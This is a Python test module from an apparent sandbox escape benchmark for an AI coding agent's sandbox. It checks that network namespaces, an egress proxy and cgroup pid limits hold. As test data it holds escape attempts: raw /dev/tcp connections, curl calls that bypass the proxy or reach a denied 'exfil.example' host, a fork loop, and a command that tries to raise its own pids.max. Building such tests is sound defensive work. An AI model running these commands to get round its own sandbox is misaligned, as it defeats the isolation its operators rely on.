"""The network and limits sections of the escape bench (bench/sandbox_escapes.py): every command
runs in its own network namespace; without the network nothing is reachable, with it (the model
asked and the user approved) only Unicum's egress proxy, which decides every host. Loopback
servers stand for internet hosts through the proxy's `hosts` (there is no real internet here)."""

from __future__ import annotations

import shutil

from bench.sandbox_world import EscapeWorld, Section

FORK_LOOP = (
    "python3 -c 'import os, time\nn = 0\ntry:\n    for _ in range(400):\n"
    "        if os.fork() == 0:\n            time.sleep(30); os._exit(0)\n        n += 1\n"
    "except OSError:\n    pass\nprint(n)'"
)


def offline_section(w: EscapeWorld) -> Section:
    s = Section("4b network not asked")
    probe = w.listener.probe()
    for attack in (
        probe,
        f"curl -s --max-time 3 http://127.0.0.1:{w.port}/",
        f"curl -s --max-time 3 --noproxy '' http://127.0.0.1:{w.port}/",
        "curl -s --max-time 3 https://pypi.org/simple/",
        f"bash -c 'echo x > /dev/tcp/127.0.0.1/{w.port}'",
    ):
        hits = w.hits
        w.run(attack)
        s.attacks.append((attack, w.hits == hits))
    npm = "npm install --offline --no-audit --no-fund ./localpkg >/dev/null && ls node_modules"
    if shutil.which("npm"):
        s.benign.append(("npm install (a local package)", w.run(npm)[1] == 0))
    return s


def proxy_section(w: EscapeWorld) -> Section:
    s = Section("4c network approved")
    site = f"{w.site.port}/ok.txt"
    for attack in (  # a raw connection ignores the proxy: the namespace has nothing else
        w.listener.probe(),
        f"bash -c 'echo x > /dev/tcp/127.0.0.1/{w.port}'",
        f"curl -s --max-time 3 --noproxy '*' http://127.0.0.1:{w.port}/",
    ):
        hits = w.hits
        w.run(attack, network=True)
        s.attacks.append((f"{attack}  (network approved)", w.hits == hits))
    hits = w.abstract.hits
    w.run(w.abstract.probe(), network=True)
    s.attacks.append(("a host abstract Unix socket (network approved)", w.abstract.hits == hits))
    dns = "python3 -c \"import socket; print(socket.getaddrinfo('pypi.org', 443))\""
    s.attacks.append(("a DNS lookup (network approved)", w.run(dns, network=True)[1] != 0))
    hits = w.site.hits
    w.run(f"curl -s --max-time 5 http://exfil.example:{site}", network=True)
    s.attacks.append(("a host in deniedDomains (network approved)", w.site.hits == hits))
    w.run(f"curl -s --max-time 5 http://files.example.com:{site}", ask=lambda h: "refused")
    s.attacks.append(("a host the user refuses", w.site.hits == hits))
    w.run(f"curl -s --max-time 5 http://files.example.com:{site}")
    s.attacks.append(("a host not allowed, the network not asked", w.site.hits == hits))
    w.run(f"curl -s --max-time 5 http://localhost:{w.port}/", network=True)
    s.attacks.append(("a name approved that resolves to the host's loopback", w.hits == hits))
    npm = [("npm install from an approved registry", w.site.npm_install("files.example.com"))]
    npm = npm if shutil.which("npm") else []
    for benign, command in [
        ("curl of an approved host", f"curl -sf --max-time 5 http://pypi.org:{site}"),
        ("curl through CONNECT", f"curl -sf --max-time 5 -p http://pypi.org:{site}"),
        (f"pip install from an approved index: {w.pip_install()}", w.pip_install()),
    ] + npm:
        s.benign.append((benign, w.run(command, network=True)[1] == 0))
    return s


def limits_section(w: EscapeWorld) -> Section:
    s = Section("9b limits as root")
    from tools.sandbox import Sandbox, SandboxPolicy
    from tools.shell import decode_output, run_command

    small = Sandbox(SandboxPolicy(limits={"pids": 64}), w.project, w.unicum_home)
    out, _, _ = run_command(FORK_LOOP, str(w.project), 60, small)
    forked = decode_output(bytes(out.head)).strip()
    s.attacks.append(
        (f"a fork loop under pids 64 (forked {forked})", forked.isdigit() and int(forked) < 64)
    )
    raise_it = "for f in /sys/fs/cgroup/*/unicum-*/pids.max; do echo max > $f; done"
    out, code, _ = run_command(raise_it, str(w.project), 60, small)
    s.attacks.append(
        ("raise the command's own pids.max", "Read-only" in decode_output(bytes(out.head)))
    )
    s.benign.append(
        (
            "ten processes under pids 64",
            run_command("for i in $(seq 10); do sleep 0.1 & done; wait", str(w.project), 60, small)[
                1
            ]
            == 0,
        )
    )
    return s


network_sections = (offline_section, proxy_section)


def proxy_cost(w: EscapeWorld, runs: int = 15) -> str:
    """What the proxy and the bridge add to a command: `true` with the network approved
    against `true` without, medians of `runs` interleaved runs in this world."""
    import statistics
    import time

    times: dict[bool, list[float]] = {False: [], True: []}
    for _ in range(runs):
        for network in (False, True):
            started = time.perf_counter()
            w.run("true", network=network)
            times[network].append(time.perf_counter() - started)
    off, on = (statistics.median(times[n]) for n in (False, True))
    return (
        f"network approved: `true` takes {on * 1000:.0f} ms against {off * 1000:.0f} ms "
        f"without ({on / off:.2f}x; medians of {runs})"
    )
